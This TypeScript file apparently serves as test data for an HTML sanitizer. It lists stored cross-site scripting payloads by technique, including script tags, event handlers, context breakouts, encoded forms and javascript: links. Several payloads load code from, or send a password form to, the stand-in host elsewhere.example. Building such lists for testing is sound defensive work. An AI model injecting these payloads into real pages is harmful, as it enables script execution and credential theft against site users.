/**
 * Texts that become a script, a request or a form in a page that does not treat them as text: the usual lists of stored
 * cross-site scripting, by what they abuse. Each would set the title of the page, open a dialog or ask `elsewhere.example`.
 */

const run = "document.title='owned'"
const away = 'https://elsewhere.example'

export const storedScripts: readonly string[] = [
  // Elements.
  `<script>${run}</script>`,
  `<ScRiPt src=${away}/x.js></sCrIpT>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<base href=${away}/><link rel=stylesheet href=${away}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${away}/">`,
  `<style>@import '${away}/x.css'; body{background:url(${away}/x)}</style>`,
  `<form action=${away}/><input name=password autofocus onfocus=${run}></form>`,
  // Handlers.
  `<img src=x onerror="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee><body onload=${run}>`,
  `<x contenteditable tabindex=1 autofocus onfocus=${run}>`,
  // Ways out of where a text stands.
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `\`};${run}//`,
  `</script><script>${run}</script>`,
  `</title></textarea></style></noscript></template><svg onload=${run}>`,
  `--><img src=x onerror=${run}><!--`,
  `]]><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  // Templates, and what was encoded.
  `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt; \\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E +ADw-script+AD4-${run}+ADw-/script+AD4-`,
  // Addresses.
  `[x](javascript:${run}) [y](JaVa&#9;ScRiPt:${run}) [z](data:text/html;base64,PHNjcmlwdD4=)`,
  `![x](${away}/x.png) ![y][r]\n\n[r]: ${away}/y.png`,
  `<a href="javascript:${run}">x</a> <a href="&#1;javascript:${run}" ping=${away}>y</a>`,
  `<div style="background-image:url(${away}/x)">x</div>`,
]
